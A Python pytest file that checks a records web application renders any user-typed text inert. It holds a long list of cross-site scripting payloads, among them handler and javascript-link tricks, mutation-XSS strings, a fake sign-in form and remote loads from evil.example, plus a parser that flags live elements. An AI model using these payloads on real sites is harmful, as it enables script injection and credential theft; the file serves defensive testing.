"""Whatever a person types into a record, nothing of it becomes live in the page of the reader."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from library.models import RecordKind
from tests.functional.pages import Node, Visitor, parse

HOSTILE = Path(__file__).resolve().parents[3] / "shared" / "data" / "hostile"
PROSE = frozenset(
    [
        "div",
        "a",
        "abbr",
        "blockquote",
        "br",
        "code",
        "dd",
        "del",
        "dl",
        "dt",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "span",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
ADDRESSES = ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "background", "poster")
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "script without an end": "<script>alert(1)",
    "script in halves": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": '<img src=x onerror="alert(1)">',
    "handler behind a slash": "<svg/onload=alert(1)>",
    "handler behind a new line": "<a\nonmouseover\n=\nalert(1)>x</a>",
    "handler in an allowed tag": '<p onclick="alert(1)">x</p>',
    "handler in the title of a link": '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "handler in a bare address": '<https://a.example/"onmouseover="alert(1)>',
    "handler in the language of code": '```"onmouseover="alert(1)\nx\n```',
    "javascript link": "[x](javascript:alert(1))",
    "javascript in mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript in entities": "[x](&#106;avascript&colon;alert&lpar;1&rpar;)",
    "javascript with a tab": "[x](java&Tab;script:alert(1))",
    "javascript with a new line": "[x](<java&#10;script:alert(1)>)",
    "javascript behind a control sign": "[x](\x01javascript:alert(1))",
    "javascript by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript in brackets": "<javascript:alert(1)>",
    "javascript behind an escape": "[x](javascript\\:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "file link": "[x](file:///etc/passwd)",
    "picture that counts readers": "![x](https://tracker.example/pixel.png)",
    "broken nesting": "</div></article></main><script>alert(1)</script><div>",
    "tables out of place": "<table><tr><td></table></td><svg><p><style><img src=x onerror=alert(1)>",
    "end of everything": "</p></div></body></html><script>alert(1)</script>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment in a comment": "<!--<!-- --!><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml><img src=x onerror=alert(1)>?>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by two forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by textarea": "<textarea><a title='</textarea><img src onerror=alert(1)>'>",
    "mutation by template": "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template>",
    "mutation by backquotes": "<img src=`x` onerror=`alert(1)`>",
    "mutation by entities": "&lt;img src=x onerror=alert(1)&gt;",
    "entities twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "entities in code": "`&lt;script&gt;`\n\n    <script>alert(1)</script>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "base": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "style": "<style>@import '//evil.example/x.css';</style><p style='background:url(//evil.example)'>x</p>",
    "form": "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "table with a style": "| a |\n|:-:|\n| <b style=x:expression(alert(1))>x</b> |",
    "template language": "{{ 7 * 191 }} {% for x in y %} ${7*191} #{7*191}",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "wide signs": "＜script＞alert(1)＜/script＞",
}


class Live(HTMLParser):
    """What a simple parser finds that could run or lead away; a second opinion beside that of HTML5."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.found.append(f"<script> {given}")
        if tag in ("iframe", "object", "embed", "base", "frame", "applet", "style", "math", "template"):
            self.found.append(f"<{tag}>")
        if "http-equiv" in given:
            self.found.append(f"<{tag} http-equiv>")
        for name, value in given.items():
            if name.startswith("on") or name == "srcdoc":
                self.found.append(f"{name} on <{tag}>")
            if name in ADDRESSES and is_dangerous(value):
                self.found.append(f"{name}={value[:40]!r}")


def is_dangerous(address: str) -> bool:
    """True for every scheme but those a reader may follow, as browsers read it: without blanks and control signs."""
    found = SCHEME.match("".join(sign for sign in address if sign > " "))
    return bool(found) and found[0].casefold() not in ("http:", "https:", "mailto:")


def live_in(html: str) -> list[str]:
    reader = Live()
    reader.feed(html)
    reader.close()
    return reader.found


def frame_of(page: Node) -> list[str]:
    """The elements of the page around the text, in order."""
    inside = {id(node.element) for prose in page.all(".prose") for node in prose.walk()}
    return [node.tag for node in page.walk() if id(node.element) not in inside]


@pytest.fixture
def author(enter) -> Visitor:
    return enter("amina")


def assert_dead(html: str) -> Node:
    """Nothing in the page runs, and in the text there is only what text is made of."""
    page = parse(html)
    assert live_in(html) == []
    for node in page.one(".prose").walk():
        assert node.tag in PROSE, node.tag
        assert not [name for name in node.element.attrib if name.startswith("on")]
        assert not is_dangerous(node.get("href") or "")
        assert node.get("style") is None
    for node in page.walk():
        assert not [name for name in node.element.attrib if name.startswith("on")], node.tag
    return page


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_hostile_text_stays_text(author, world, payload):
    tame = world.record(author.viewer, body="Tame.", summary="Tame.", fields={"purpose": "Tame."})
    wild = world.record(
        author.viewer,
        title="Wild " + " ".join(payload.split())[:190],
        body=f"{payload}\n\nafter it",
        summary=payload,
        fields={"purpose": payload},
    )
    page = assert_dead(author.see(f"/records/{wild}").html)
    assert frame_of(page) == frame_of(parse(author.see(f"/records/{tame}").html))
    assert "after it" in page.one(".prose").text
    assert "1337" not in page.text


@pytest.mark.parametrize("place", ["library", "drafts", "editor", "search", "error"])
def test_hostile_titles_stay_text_wherever_they_are_shown(author, world, index, place):
    hostile = "Wild \"'><img src=x onerror=alert(1)></textarea></title><script>alert(1)</script>"
    number = world.record(author.viewer, title=hostile, summary=hostile, body=hostile, publish=place != "drafts")
    index()
    pages = {
        "library": lambda: author.see("/library"),
        "drafts": lambda: author.see("/library/drafts"),
        "editor": lambda: author.see(f"/records/{number}/edit"),
        "search": lambda: author.see("/search?q=wild"),
        "error": lambda: author.post(f"/records/{number}/edit", title=hostile, marking=hostile, year=hostile),
    }
    page = pages[place]()
    assert "Wild" in page.text or place == "error"
    assert live_in(page.html) == []
    assert not [node for node in page.walk() if node.get("onerror") or node.get("src") == "x"]


@pytest.mark.parametrize("name", ["xss_payload_list.txt", "blns.json", "commonmark_examples.json", "bleach"])
def test_collected_attacks_stay_text(author, world, name):
    source = HOSTILE / name
    if not source.exists():
        pytest.skip(f"{source} is not on this machine")
    for text in batches(texts_in(source)):
        number = world.record(author.viewer, body=text, fields={"purpose": text[:5000]})
        assert_dead(author.see(f"/records/{number}").html)


def texts_in(source: Path) -> list[str]:
    if source.is_dir():
        return [one.read_text(errors="replace") for one in sorted(source.iterdir())]
    content = source.read_text(errors="replace")
    if source.suffix == ".json":
        return [str(one["markdown"]) if isinstance(one, dict) else str(one) for one in json.loads(content)]
    return content.splitlines()


def batches(texts: list[str], size: int = 40_000) -> list[str]:
    """The texts as paragraphs of a few long ones."""
    made, length = [[]], 0
    for text in texts:
        if length > size:
            made.append([])
            length = 0
        made[-1].append(text)
        length += len(text)
    return ["\n\n".join(one) for one in made]


def test_the_reader_sees_what_was_typed(author, world):
    number = world.record(author.viewer, kind=RecordKind.SOP, body="Type `<script>` and <b>this</b> & that.")
    assert author.see(f"/records/{number}").one(".prose").text == "Type <script> and <b>this</b> & that."
